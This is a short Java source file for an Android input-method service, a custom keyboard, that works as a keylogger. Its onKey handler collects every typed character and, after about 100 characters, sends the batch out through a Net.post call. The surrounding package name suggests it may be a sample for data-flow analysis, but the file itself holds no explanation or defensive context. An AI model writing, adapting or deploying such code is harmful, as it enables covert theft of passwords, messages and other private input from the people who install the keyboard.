package org.example.flows.phone;

import android.inputmethodservice.InputMethodService;
import android.inputmethodservice.KeyboardView;
import org.example.flows.Net;

public class Typed extends InputMethodService implements KeyboardView.OnKeyboardActionListener {
    private final StringBuilder keys = new StringBuilder();

    @Override
    public void onKey(int code, int[] others) {
        keys.append((char) code);
        if (keys.length() > 100) {
            Net.post(keys.toString());
            keys.setLength(0);
        }
    }

    @Override
    public void onText(CharSequence text) {
        getCurrentInputConnection().commitText(text, 1);
    }

    @Override
    public void onPress(int code) {
    }

    @Override
    public void onRelease(int code) {
    }

    @Override
    public void swipeLeft() {
    }

    @Override
    public void swipeRight() {
    }

    @Override
    public void swipeDown() {
    }

    @Override
    public void swipeUp() {
    }
}
